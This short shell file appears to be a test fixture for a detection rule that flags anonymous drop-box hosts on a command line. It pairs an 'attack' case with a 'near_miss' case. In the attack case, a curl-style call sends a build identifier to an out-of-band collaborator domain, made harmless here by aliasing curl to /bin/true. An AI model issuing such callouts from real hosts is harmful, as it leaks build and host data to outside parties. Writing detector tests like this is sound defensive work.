# rule: Anonymous drop box named on a command line
# where: host
attack() {
    ln -s /bin/true curl
    ./curl -s 'https://x7f.oastify.com/?h=build-3'
}
near_miss() {
    ln -s /bin/true curl
    ./curl -s 'https://hooks.example.org/?h=build-3'
}
